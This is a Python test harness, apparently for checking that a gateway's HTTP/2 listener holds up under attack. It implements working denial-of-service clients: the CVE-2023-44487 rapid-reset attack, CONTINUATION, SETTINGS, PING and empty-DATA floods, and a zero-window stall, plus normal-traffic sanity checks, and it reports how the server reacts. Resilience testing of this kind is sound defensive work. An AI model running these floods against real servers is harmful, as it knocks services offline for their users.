"""Hostile (and one well-behaved) HTTP/2 clients for the gateway's HTTP/2 listener, built on `h2`.

  h2_probe.py ATTACK HOST PORT
      Connects to HOST:PORT over cleartext TCP with HTTP/2 prior knowledge (h2c: the client
      preface and SETTINGS from h2's H2Connection), runs ATTACK, and prints exactly one JSON
      line, then exits 0 (2 on a usage error):
        {"attack", "goaway" (the server sent GOAWAY), "goaway_error" (its error code's
         h2 ErrorCodes name, or null), "closed" (the server closed the TCP connection),
         "frames_sent" (frames written to the socket, the client's SETTINGS included),
         "responses" (responses received complete, with END_STREAM), "statuses" (every
         :status seen, in order), "seconds", "error" (an unexpected local exception, or null)}

Attacks (each request is `GET /` with :authority HOST:PORT and :scheme http unless said):
  rapid-reset         CVE-2023-44487: HEADERS (END_STREAM) then RST_STREAM(CANCEL) at once,
                      stream after stream, up to 20000 streams.
  continuation-flood  one HEADERS without END_HEADERS, then up to 10000 CONTINUATION frames
                      without END_HEADERS, each a ~310-byte never-indexed literal `x-flood`.
  settings-flood      up to 100000 SETTINGS frames (one setting each), reading the ACKs only
                      now and then, without blocking.
  ping-flood          up to 100000 PING frames likewise.
  empty-data-flood    a POST (HEADERS without END_STREAM) whose body is up to 100000 empty
                      DATA frames without END_STREAM.
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE 0 in the preface's SETTINGS and no
                      WINDOW_UPDATE ever (the connection window stays at its 65535 minimum),
                      then a GET whose body can never be sent, held open for 3 s; meanwhile
                      a well-behaved client on a second connection sends a GET, and
                      "other_client_status" is the :status it got (null if none). The stalled
                      connection is closed last.
  normal              a sanity check: 50 sequential GETs on one connection, then a POST with
                      a 100 KiB body sent as the flow-control windows allow; no GOAWAY expected.
  early-answer        a POST announcing a 100000-byte body (HTTP/2 `content-length`) whose
                      body is never sent, to a route that takes at most 1000 bytes: the
                      gateway answers at once; "reset_codes" as for concurrent.
  concurrent          8 GETs sent at once on one connection, each with `x-echo-delay-ms: 1500`
                      (the sandbox echo upstream answers late), all awaited; the report adds
                      "reset_codes": {stream: the RST_STREAM error code's name}.

Each attack reads the server's frames until the server closes the connection, or 5 s after
a GOAWAY, or its own end. Received bytes go both to h2 (which answers SETTINGS and PING and
keeps the flow-control windows) and to a small raw frame scanner that the report relies on:
after a GOAWAY, or on streams the hostile frames opened behind h2's back, h2 may call the
server's frames protocol errors; the scanner still sees every GOAWAY, :status and
END_STREAM. Every socket operation has a timeout and the whole run ends within about 20 s.
"""
import json
import signal
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from h2.errors import ErrorCodes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20

RUN_SECONDS = 19.0      # the whole attack, second connection included
SEND_SECONDS = 12.0     # a flood stops sending after this, leaving time to read the outcome
GOAWAY_LINGER = 5.0     # after a GOAWAY, how long to wait for the server to close
QUIET_SECONDS = 5.0     # after a flood without GOAWAY, how long to wait for one
BATCH = 64              # flood frames per write
READ_EVERY = 8          # a flood's batches between two non-blocking reads


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def count_frames(data: bytes) -> int:
    """How many frames a run of whole frames (optionally after the client preface) holds."""
    offset, count = (len(PREFACE) if data.startswith(PREFACE) else 0), 0
    while offset + 9 <= len(data):
        offset += 9 + int.from_bytes(data[offset:offset + 3], "big")
        count += 1
    return count


def error_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"UNKNOWN_{code}"


def note(text: str) -> None:
    """A diagnostic on stderr (stdout carries only the JSON line)."""
    print(f"h2_probe: {text}", file=sys.stderr, flush=True)


class Scanner:
    """Walks the server's raw frames: GOAWAYs, response :status values, ended and reset streams."""

    def __init__(self):
        self.buffer = bytearray()
        self.decoder = hpack.Decoder()
        self.block, self.block_stream, self.block_ends = None, 0, False
        self.goaway_codes: list[int] = []
        self.statuses: list[int] = []
        self.ended: set[int] = set()
        self.reset: set[int] = set()
        self.reset_codes: dict[int, str] = {}
        self.settings_seen = False
        self.unanswered: list[bytes] = []   # SETTINGS ACKs / PING ACKs owed when h2 no longer answers

    def feed(self, data: bytes) -> None:
        self.buffer += data
        offset = 0
        while len(self.buffer) - offset >= 9:
            length = int.from_bytes(self.buffer[offset:offset + 3], "big")
            if len(self.buffer) - offset < 9 + length:
                break
            kind, flags = self.buffer[offset + 3], self.buffer[offset + 4]
            stream = int.from_bytes(self.buffer[offset + 5:offset + 9], "big") & 0x7FFFFFFF
            payload = bytes(self.buffer[offset + 9:offset + 9 + length])
            offset += 9 + length
            self.frame(kind, flags, stream, payload)
        del self.buffer[:offset]

    def frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == GOAWAY and len(payload) >= 8:
            self.goaway_codes.append(int.from_bytes(payload[4:8], "big"))
        elif kind == HEADERS:
            if flags & PADDED and payload:
                payload = payload[1:len(payload) - payload[0]]
            if flags & PRIORITY:
                payload = payload[5:]
            self.block, self.block_stream, self.block_ends = bytearray(payload), stream, bool(flags & END_STREAM)
            if flags & END_HEADERS:
                self.header_block_done()
        elif kind == CONTINUATION and self.block is not None:
            self.block += payload
            if flags & END_HEADERS:
                self.header_block_done()
        elif kind == DATA and flags & END_STREAM:
            self.ended.add(stream)
        elif kind == RST_STREAM:
            self.reset.add(stream)
            if len(payload) >= 4:
                self.reset_codes[stream] = error_name(int.from_bytes(payload[:4], "big"))
        elif kind == SETTINGS and not flags & ACK:
            self.settings_seen = True
            self.unanswered.append(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.unanswered.append(frame(PING, ACK, 0, payload))

    def header_block_done(self) -> None:
        try:
            for name, value in self.decoder.decode(bytes(self.block)):
                if name == ":status":
                    self.statuses.append(int(value))
        except Exception as error:  # a broken block: nothing more to learn from HPACK now
            note(f"undecodable header block on stream {self.block_stream}: {error!r}")
        if self.block_ends:
            self.ended.add(self.block_stream)
        self.block = None

    @property
    def goaway_error(self) -> str | None:
        """The first GOAWAY's code, unless a later one names an actual error."""
        if not self.goaway_codes:
            return None
        errors = [code for code in self.goaway_codes if code != 0]
        return error_name(errors[0] if errors else self.goaway_codes[0])


class Probe:
    """One client connection: a socket with deadlines, an h2 connection and a raw frame scanner."""

    def __init__(self, host: str, port: int, deadline: float, settings: dict | None = None):
        self.deadline = deadline
        self.authority = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
        self.scanner = Scanner()
        self.closed = False          # the server closed (FIN or RST) the connection
        self.read_done = False       # nothing more can be read
        self.goaway_at: float | None = None
        self.frames_sent = 0
        self.mute = False            # while True, control frames h2 owes are held back
        self.acknowledge_data = True
        self.h2_ok = True
        self.conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        if settings:
            # Replacing the settings before initiate_connection puts them in the preface's
            # SETTINGS frame; h2 sizes new streams' inbound windows from them.
            values = {h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100,
                      h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE: self.conn.DEFAULT_MAX_HEADER_LIST_SIZE}
            values.update(settings)
            self.conn.local_settings = h2.settings.Settings(client=True, initial_values=values)
        self.sock = socket.create_connection((host, port), timeout=min(5.0, self.remaining()))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn.initiate_connection()
        self.flush()

    # -- time --------------------------------------------------------------------------

    def remaining(self) -> float:
        return max(0.01, self.deadline - time.monotonic())

    def expired(self) -> bool:
        return time.monotonic() >= self.deadline

    @property
    def goaway(self) -> bool:
        return bool(self.scanner.goaway_codes)

    def stopped(self, send_deadline: float) -> bool:
        """Whether a flood should stop sending: the server said GOAWAY or closed, or time is up."""
        return self.closed or self.goaway or time.monotonic() >= min(send_deadline, self.deadline)

    # -- writing -----------------------------------------------------------------------

    def write(self, data: bytes, frames: int | None = None) -> bool:
        """Writes whole frames; False (and `closed` when the server hung up) if it could not."""
        if not data:
            return True
        if self.closed:
            return False
        try:
            self.sock.settimeout(min(5.0, self.remaining()))
            self.sock.sendall(data)
        except (TimeoutError, BlockingIOError):
            note("a write timed out: the server stopped reading")
            return False
        except OSError as error:  # EPIPE, ECONNRESET: the server closed the connection
            note(f"write failed: {error!r}")
            self.closed = True
            return False
        self.frames_sent += count_frames(data) if frames is None else frames
        return True

    def flush(self) -> bool:
        """Writes what h2 has queued (nothing while muted or once h2 has given up)."""
        if self.mute or not self.h2_ok:
            return True
        return self.write(self.conn.data_to_send())

    # -- reading -----------------------------------------------------------------------

    def pump(self, wait: float = 0.0) -> None:
        """Reads what has arrived, waiting up to `wait` seconds for the first bytes (0: never)."""
        wait = min(wait, self.remaining())
        first = True
        while not self.read_done:
            try:
                self.sock.settimeout(wait if first and wait > 0 else 0.0)
                data = self.sock.recv(262144)
            except (TimeoutError, BlockingIOError):
                return
            except OSError as error:  # ECONNRESET: the server reset the connection
                note(f"read failed: {error!r}")
                self.closed = self.read_done = True
                return
            first = False
            if not data:
                self.closed = self.read_done = True
                return
            self.receive(data)

    def receive(self, data: bytes) -> None:
        had_goaway = self.goaway
        self.scanner.feed(data)
        if self.goaway and not had_goaway:
            self.goaway_at = time.monotonic()
        if self.h2_ok:
            # What h2 has queued goes out first: if h2 gives up on these bytes, only its own
            # reaction is dropped (the HEADERS it encoded must reach the server's HPACK decoder).
            self.flush()
            try:
                for event in self.conn.receive_data(data):
                    self.on_event(event)
            except Exception as error:  # h2 rejects the server's frames: the scanner goes on alone
                note(f"h2 gave up ({type(error).__name__}: {error}); raw frame scanning continues")
                self.h2_ok = False
                self.conn.clear_outbound_data_buffer()  # h2's own GOAWAY: not ours to send
                self.scanner.unanswered.clear()         # h2 answered everything before this
                return
            self.scanner.unanswered.clear()
            self.flush()
        elif not self.mute and not self.closed and self.scanner.unanswered:
            owed, self.scanner.unanswered = b"".join(self.scanner.unanswered), []
            self.write(owed)

    def on_event(self, event) -> None:
        if isinstance(event, h2.events.DataReceived) and self.acknowledge_data:
            try:  # hand the window back so the server may go on sending
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            except h2.exceptions.H2Error:
                pass
        # WindowUpdated needs no action: h2 applies it, and the senders re-read the window.

    def await_settings(self, seconds: float = 3.0) -> None:
        """Reads until the server's SETTINGS arrived (and h2 acknowledged them)."""
        end = min(time.monotonic() + seconds, self.deadline)
        while not self.scanner.settings_seen and not self.read_done and time.monotonic() < end:
            self.pump(min(0.1, max(0.0, end - time.monotonic())))

    def drain(self) -> None:
        """Reads until the server closes, GOAWAY_LINGER s after a GOAWAY, or QUIET_SECONDS without one."""
        quiet_until = time.monotonic() + QUIET_SECONDS
        while not self.read_done and not self.expired():
            limit = self.goaway_at + GOAWAY_LINGER if self.goaway_at is not None else quiet_until
            left = min(limit, self.deadline) - time.monotonic()
            if left <= 0:
                return
            self.pump(min(0.25, left))

    def await_response(self, stream: int, seconds: float) -> bool:
        """Reads until `stream` ended (END_STREAM) or was reset; True if it ended."""
        end = min(time.monotonic() + seconds, self.deadline)
        while stream not in self.scanner.ended and stream not in self.scanner.reset:
            if self.read_done or time.monotonic() >= end:
                break
            self.pump(min(0.25, max(0.0, end - time.monotonic())))
        return stream in self.scanner.ended

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass

    # -- requests ----------------------------------------------------------------------

    def request_headers(self, method: str = "GET", extra: list | None = None) -> list:
        return [(":method", method), (":path", "/"), (":scheme", "http"), (":authority", self.authority)] + (extra or [])

    def raw_headers(self, stream: int, headers: list, flags: int) -> bytes:
        """A HEADERS frame encoded by h2's own HPACK encoder (so its state stays the server's)."""
        return frame(HEADERS, flags, stream, self.conn.encoder.encode(headers))

    def flood(self, make, limit: int, send_deadline: float) -> None:
        """Writes `make(i)` frames in batches until `limit`, or the server stops us, or time is up."""
        sent, batches = 0, 0
        while sent < limit and not self.stopped(send_deadline):
            count = min(BATCH, limit - sent)
            if not self.write(b"".join(make(index) for index in range(sent, sent + count)), count):
                break
            sent += count
            batches += 1
            if batches % READ_EVERY == 0:
                self.pump(0)


# -- attacks ---------------------------------------------------------------------------

def rapid_reset(probe: Probe, send_deadline: float) -> None:
    headers = probe.request_headers()
    cancel = struct.pack(">I", ErrorCodes.CANCEL)
    by_hand = False  # set once h2 refuses: from then on the frames are written by hand
    for index in range(20000):
        if probe.stopped(send_deadline):
            break
        stream = 1 + 2 * index
        opened = reset = False
        if not by_hand and probe.h2_ok:
            try:
                probe.conn.send_headers(stream, headers, end_stream=True)
                opened = True
                probe.conn.reset_stream(stream, error_code=ErrorCodes.CANCEL)
                reset = True
            except h2.exceptions.H2Error as error:  # e.g. h2's own stream limit
                note(f"h2 refused stream {stream} ({type(error).__name__}: {error}); frames by hand from now on")
                by_hand = True
                if not probe.flush():
                    break
        if not reset:
            raw = b"" if opened else probe.raw_headers(stream, headers, END_HEADERS | END_STREAM)
            if not probe.write(raw + frame(RST_STREAM, 0, stream, cancel)):
                break
        if index % 32 == 31:
            if not probe.flush():
                break
            probe.pump(0)
    probe.flush()
    probe.drain()


def continuation_flood(probe: Probe, send_deadline: float) -> None:
    # No other frame may come between HEADERS and its CONTINUATIONs, so the server's
    # SETTINGS are acknowledged first and whatever h2 owes afterwards is held back.
    probe.await_settings()
    probe.mute = True
    if probe.write(probe.raw_headers(1, probe.request_headers(), END_STREAM), 1):
        # A never-indexed literal with a literal name leaves no HPACK state: the same bytes
        # are a valid fragment every time.
        literal = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-flood", "a" * 300)], huffman=False)
        continuation = frame(CONTINUATION, 0, 1, literal)
        probe.flood(lambda index: continuation, 10000, send_deadline)
    probe.drain()


def settings_flood(probe: Probe, send_deadline: float) -> None:
    probe.await_settings()
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS, 100))
    probe.flood(lambda index: settings, 100000, send_deadline)
    probe.drain()


def ping_flood(probe: Probe, send_deadline: float) -> None:
    probe.await_settings()
    probe.flood(lambda index: frame(PING, 0, 0, struct.pack(">Q", index)), 100000, send_deadline)
    probe.drain()


def empty_data_flood(probe: Probe, send_deadline: float) -> None:
    probe.await_settings()
    # h2 opens the stream (so it understands any answer on it); the empty DATA frames are
    # raw but change none of h2's state (no flow-controlled bytes, no END_STREAM).
    probe.conn.send_headers(1, probe.request_headers("POST", [("content-type", "application/octet-stream")]))
    if probe.flush():
        empty = frame(DATA, 0, 1)
        probe.flood(lambda index: empty, 100000, send_deadline)
    probe.drain()


def zero_window(probe: Probe, report: dict, host: str, port: int) -> None:
    probe.acknowledge_data = False
    probe.await_settings()
    probe.conn.send_headers(1, probe.request_headers(), end_stream=True)
    probe.flush()
    hold = min(time.monotonic() + 3.0, probe.deadline)
    while not probe.read_done and time.monotonic() < hold:
        probe.pump(min(0.25, max(0.0, hold - time.monotonic())))
    # The stalled stream stays open while another client asks for the same page.
    other = Probe(host, port, probe.deadline)
    try:
        other.await_settings()
        other.conn.send_headers(1, other.request_headers(), end_stream=True)
        other.flush()
        other.await_response(1, 10.0)
        report["other_client_status"] = other.scanner.statuses[0] if other.scanner.statuses else None
    finally:
        other.close()
        probe.pump(0)  # anything the stalled connection got meanwhile


def normal(probe: Probe) -> None:
    probe.await_settings()
    stream = 1
    for _ in range(50):
        if probe.closed or probe.goaway or probe.expired():
            return
        probe.conn.send_headers(stream, probe.request_headers(), end_stream=True)
        probe.flush()
        probe.await_response(stream, 10.0)
        stream += 2
    if probe.closed or probe.goaway or probe.expired():
        return
    body = bytes(range(256)) * 400  # 100 KiB
    probe.conn.send_headers(stream, probe.request_headers("POST", [
        ("content-type", "application/octet-stream"), ("content-length", str(len(body)))]))
    probe.flush()
    offset = 0
    while offset < len(body):
        if probe.closed or probe.goaway or probe.expired():
            break
        if stream in probe.scanner.ended or stream in probe.scanner.reset:
            break  # answered (or refused) before the body was all sent
        try:
            window = min(probe.conn.local_flow_control_window(stream), probe.conn.max_outbound_frame_size)
        except h2.exceptions.H2Error:
            break  # the stream is closed
        if window <= 0:
            probe.pump(0.25)  # wait for WINDOW_UPDATE (h2 applies it)
            continue
        chunk = body[offset:offset + window]
        try:
            probe.conn.send_data(stream, chunk, end_stream=offset + len(chunk) == len(body))
        except h2.exceptions.H2Error as error:
            note(f"POST body stopped at {offset} bytes: {type(error).__name__}: {error}")
            break
        offset += len(chunk)
        probe.flush()
        probe.pump(0)
    probe.await_response(stream, 10.0)


def concurrent(probe: Probe, report: dict) -> None:
    probe.await_settings()
    streams = [1 + 2 * index for index in range(8)]
    for stream in streams:
        probe.conn.send_headers(stream, probe.request_headers(extra=[("x-echo-delay-ms", "1500")]), end_stream=True)
    probe.flush()
    for stream in streams:
        probe.await_response(stream, 10.0)
    report["reset_codes"] = {str(stream): name for stream, name in sorted(probe.scanner.reset_codes.items())}


def early_answer(probe: Probe, report: dict) -> None:
    probe.await_settings()
    probe.conn.send_headers(1, probe.request_headers("POST", [("content-length", "100000")]))
    probe.flush()
    probe.await_response(1, 10.0)
    # The reset follows the answer's END_STREAM: read until it arrives (or 5 s pass).
    end = min(time.monotonic() + 5.0, probe.deadline)
    while 1 not in probe.scanner.reset and not probe.read_done and time.monotonic() < end:
        probe.pump(min(0.25, max(0.0, end - time.monotonic())))
    report["reset_codes"] = {str(stream): name for stream, name in sorted(probe.scanner.reset_codes.items())}


ATTACKS = ("rapid-reset", "continuation-flood", "settings-flood", "ping-flood", "empty-data-flood", "zero-window", "normal",
           "concurrent", "early-answer")


def run(attack: str, host: str, port: int) -> dict:
    report = {"attack": attack, "goaway": False, "goaway_error": None, "closed": False, "frames_sent": 0,
              "responses": 0, "statuses": [], "seconds": 0.0, "error": None}
    if attack == "zero-window":
        report["other_client_status"] = None
    started = time.monotonic()
    deadline = started + RUN_SECONDS
    send_deadline = started + SEND_SECONDS
    probe = None
    try:
        settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0} if attack == "zero-window" else None
        probe = Probe(host, port, deadline, settings)
        if attack == "rapid-reset":
            rapid_reset(probe, send_deadline)
        elif attack == "continuation-flood":
            continuation_flood(probe, send_deadline)
        elif attack == "settings-flood":
            settings_flood(probe, send_deadline)
        elif attack == "ping-flood":
            ping_flood(probe, send_deadline)
        elif attack == "empty-data-flood":
            empty_data_flood(probe, send_deadline)
        elif attack == "zero-window":
            zero_window(probe, report, host, port)
        elif attack == "normal":
            normal(probe)
        elif attack == "concurrent":
            concurrent(probe, report)
        elif attack == "early-answer":
            early_answer(probe, report)
    except Exception as error:  # a local failure, reported rather than hidden
        report["error"] = f"{type(error).__name__}: {error}"
    finally:
        if probe is not None:
            probe.close()
            report.update(goaway=probe.goaway, goaway_error=probe.scanner.goaway_error, closed=probe.closed,
                          frames_sent=probe.frames_sent, responses=len(probe.scanner.ended),
                          statuses=probe.scanner.statuses)
    report["seconds"] = round(time.monotonic() - started, 3)
    return report


def main() -> None:
    if len(sys.argv) != 4 or sys.argv[1] not in ATTACKS or not sys.argv[3].isdigit():
        print(__doc__, file=sys.stderr)
        sys.exit(2)

    def overrun(signum, frame_):
        raise TimeoutError("the attack overran its time")

    signal.signal(signal.SIGALRM, overrun)  # a last resort: every socket call has its own timeout
    signal.alarm(int(RUN_SECONDS) + 5)
    report = run(sys.argv[1], sys.argv[2], int(sys.argv[3]))
    signal.alarm(0)
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
